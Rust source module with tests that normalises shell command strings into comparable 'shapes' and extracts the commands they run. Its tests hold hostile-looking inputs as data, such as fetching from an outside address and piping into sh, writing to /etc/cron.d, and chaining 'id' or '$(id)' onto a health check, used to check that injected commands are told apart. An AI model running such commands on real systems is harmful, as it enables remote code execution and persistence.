//! The shape of a command that is given as a text: all of its words, without what differs from run to run.

use std::net::Ipv4Addr;

use crate::{subject::normalise, uid};

/// Characters kept of a shape; of a longer one, what is left out is part of a number at its end.
const LONGEST: usize = 160;
/// Bytes of a text that are read. Beyond, only its length in thousands counts.
const MOST: usize = 16 << 10;
/// What stands for any text: a secret that is masked, or what a shell puts in place of a pattern.
const ANY: &str = "<any>";
/// Words that a command may follow.
const BEFORE_COMMANDS: [&str; 14] =
    ["if", "then", "else", "elif", "do", "while", "until", "!", "time", "exec", "command", "nohup", "env", "sudo"];

/// The shape of a text. Numbers, ids, dates and random names are classes, as they are in paths, and so are addresses of private
/// networks; blanks are one. What is run, and all that it is given, stays.
pub(super) fn of(text: &str) -> String {
    let end = (0..=MOST.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    let mut out = String::new();
    let mut rest = text.get(..end).unwrap_or_default().trim();
    while let Some(first) = rest.chars().next() {
        let token = rest.len() - rest.trim_start_matches(is_of_token).len();
        if token > 0 {
            out += &class(&rest[..token]);
            rest = &rest[token..];
        } else if first.is_whitespace() {
            out.push(' ');
            rest = rest.trim_start();
        } else if first == '*' {
            out += ANY;
            rest = rest.trim_start_matches('*');
        } else {
            out.push(first);
            rest = &rest[first.len_utf8()..];
        }
    }
    if text.len() > MOST {
        out += &format!(" …{}", text.len() >> 10);
    }
    match out.char_indices().nth(LONGEST) {
        Some((end, _)) => format!("{}…{}", &out[..end], uid::of([out.as_str()]).get(..8).unwrap_or_default()),
        None => out,
    }
}

/// The commands that a shape runs, in their order: `curl, sh` of `curl http://h/|sh`.
pub(super) fn commands(shape: &str) -> String {
    let parts = shape.split(|c: char| ";|&(){}`\n".contains(c));
    let commands = parts.filter_map(|part| {
        let words = part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '$']));
        words.filter(|word| !word.is_empty()).find(|word| !is_assignment(word) && !BEFORE_COMMANDS.contains(word))
    });
    commands.collect::<Vec<_>>().join(", ")
}

/// The first word that is no assignment: all that earlier agents kept.
pub(super) fn first_word(shape: &str) -> &str {
    let is_end = |c: char| c.is_whitespace() || ";|&()".contains(c);
    shape.split(is_end).filter(|word| !word.is_empty()).find(|word| !is_assignment(word)).unwrap_or_default()
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=')
        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

fn is_of_token(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '.' | '-' | '_')
}

/// A word without what is accidental in it. Addresses say whom it is about.
fn class(token: &str) -> String {
    if let Ok(address) = token.parse::<Ipv4Addr>() {
        return if address.is_private() { "<private>".into() } else { token.to_owned() };
    }
    let segment = normalise::segment(token);
    let mut out = String::with_capacity(segment.len());
    let mut is_number = false;
    for c in segment.chars() {
        if !c.is_ascii_digit() {
            out.push(c);
        } else if !is_number {
            out += "<n>";
        }
        is_number = c.is_ascii_digit();
    }
    // What stands for a random part is no pattern of a shell.
    out.replace('*', ANY)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_with_other_numbers_ids_and_secrets_is_one_shape() {
        for (a, b) in [
            ("curl -f http://localhost:8080/health", "curl -f  http://localhost:9090/health"),
            ("job --id 17 >/tmp/job17.log", "job --id 4711 >/tmp/job4711.log"),
            ("app --run 0b5d1c1e-8a10-4a3f-9c55-7d9d0f3f1a11", "app --run 7c9e6679-7425-40de-944b-e07fc1f90ae7"),
            ("mysql -p******* shop", "mysql -p*** shop"),
            ("nc 10.1.2.3 80", "nc 10.9.8.7 81"),
            ("rm -rf /tmp/tmp.Xa81jK", "rm -rf /tmp/tmp.gHq0Pl"),
        ] {
            assert_eq!(of(a), of(b), "{a} {b}");
        }
    }

    #[test]
    fn whatever_else_is_run_is_another_shape() {
        let health = "curl -f http://localhost:8080/health";
        for other in [
            "id; wget http://203.0.113.7/x",
            "curl -f http://localhost:8080/health; id",
            "curl -f http://localhost:8080/health|sh",
            "curl -f http://localhost:8080/health >/etc/cron.d/x",
            "curl -f http://203.0.113.7:8080/health",
            "$(id) curl -f http://localhost:8080/health",
            "X=1 curl -f http://localhost:8080/health",
        ] {
            assert_ne!(of(health), of(other), "{other}");
        }
        assert_ne!(of("nc 127.0.0.1 80"), of("nc 203.0.113.7 80"));
        // Also behind what is kept of a long one, and where the text is longer than is read.
        let long = format!("echo {}", "a ".repeat(2 * LONGEST));
        assert_ne!(of(&long), of(&format!("{long};id")));
        assert!(of(&long).chars().count() <= LONGEST + 9);
        assert!(of(&"é;".repeat(MOST)).chars().count() <= LONGEST + 9);
    }

    #[test]
    fn commands_are_what_is_run() {
        for (text, wanted) in [
            ("curl http://h/|sh", "curl, sh"),
            ("cd /; exec /opt/run x", "cd, /opt/run"),
            ("A=b if test -e x; then X=1 id; fi", "test, id, fi"),
            ("echo $(id)", "echo, id"),
            ("", ""),
        ] {
            assert_eq!(commands(&of(text)), wanted, "{text}");
        }
        assert_eq!(first_word("PATH=/x LC_ALL=C exec /opt/run"), "exec");
    }

    proptest::proptest! {
        #[test]
        fn any_text_has_a_bounded_shape_without_patterns(text: String) {
            let shape = of(&text);
            assert!(shape.chars().count() <= LONGEST + 9 && !shape.contains('*'), "{shape}");
            commands(&shape);
        }
    }
}
